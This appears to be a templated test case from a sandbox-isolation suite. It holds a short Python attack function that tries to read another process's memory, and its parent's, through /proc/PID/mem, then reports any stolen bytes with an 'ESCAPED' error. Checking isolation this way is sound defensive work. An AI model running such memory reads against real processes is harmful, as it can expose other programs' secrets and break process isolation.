# attack: reads a bystander's and the parent's memory in /proc/PID/mem
# layer: files
# where: construct
# status: ok
# score: same
def attack():
    for process, address in (("{VICTIM_PID}", "{VICTIM_ADDRESS}"), ("{PARENT_PID}", "{PARENT_ADDRESS}")):
        try:
            with open("/proc/" + process + "/mem", "rb", buffering=0) as memory:
                memory.seek(int(address))
                stolen = memory.read(40)
        except OSError:
            continue
        raise RuntimeError("ESCAPED " + stolen.decode("latin-1"))
